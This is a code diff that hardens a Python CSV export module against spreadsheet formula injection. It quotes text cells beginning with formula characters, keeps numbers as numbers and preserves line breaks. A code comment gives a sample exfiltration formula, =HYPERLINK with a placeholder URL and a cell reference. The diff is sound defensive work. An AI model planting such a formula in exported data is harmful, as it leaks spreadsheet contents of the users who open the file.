@@ -137,6 +137,23 @@ def _record(knowledge: Knowledge, owner, item, parents: dict, base: dict) -> Rec
 
 # ---- writing ----
 
+# A spreadsheet runs a cell that starts with one of these as a formula ("CSV injection": a figure label
+# =HYPERLINK("https://...?"&A1) would send the sheet's cells away when clicked). OWASP's advice: put a single quote in
+# front, so the cell is shown as text. Only text cells: numbers are written by _cell and stay numbers (-0.5).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(text: str) -> str:
+    """A text cell a spreadsheet shows as text. Text that already starts with quotes before a formula character
+    gets one more, so that `csv_text` gives back exactly what was written in data/."""
+    return "'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text
+
+
+def csv_text(cell: str) -> str:
+    """The text a `csv_cell` was made from."""
+    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_STARTS) else cell
+
+
 def _cell(value) -> str:
     if value is None:
         return ""
@@ -144,12 +161,14 @@ def _cell(value) -> str:
         return "true" if value else "false"
     if isinstance(value, float):
         return str(int(value)) if value.is_integer() and abs(value) < 1e15 else repr(value)  # exact, shortest
-    return str(value)
+    if isinstance(value, int):
+        return str(value)
+    return csv_cell(str(value))
 
 
 def to_csv(found: list[Record]) -> str:
     out = io.StringIO()
-    writer = csv.writer(out, lineterminator="\n")
+    writer = csv.writer(out, lineterminator="\r\n")  # RFC 4180: a line break inside a text cell is then quoted
     writer.writerow(COLUMNS)
     for record in found:
         writer.writerow(_cell(getattr(record, c)) for c in COLUMNS)
@@ -186,7 +205,7 @@ def _typed(name: str, text: str):
         return int(text)
     if "float" in kind:
         return float(text)
-    return text
+    return csv_text(text)
 
 
 def read_csv(text: str) -> list[Record]:
@@ -213,6 +232,7 @@ def read_json(text: str) -> list[Record]:
 
 def read(path: Path) -> list[Record]:
     """The records of an exported file, by its extension."""
-    text = Path(path).read_text(encoding="utf-8")
+    with open(path, encoding="utf-8", newline="") as file:  # line breaks inside cells as written
+        text = file.read()
     return read_json(text) if Path(path).suffix == ".json" else read_csv(text)
 
